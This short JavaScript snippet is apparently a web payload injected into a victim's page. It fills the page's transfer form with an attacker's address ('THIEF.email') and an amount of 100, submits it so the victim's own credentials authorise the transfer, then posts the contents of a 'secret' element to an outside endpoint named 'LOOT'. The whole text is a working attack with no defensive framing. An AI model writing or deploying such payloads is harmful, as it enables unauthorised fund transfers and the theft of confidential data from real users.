// Sends the transfer with the page's own form, which adds the credentials.
(async () => {
  const at = (id) => document.getElementById(id);
  [at("to").value, at("amount").value] = [THIEF.email, "100"];
  at("transfer").requestSubmit();
  await fetch(LOOT, { method: "POST", mode: "no-cors", body: at("secret").textContent });
})();
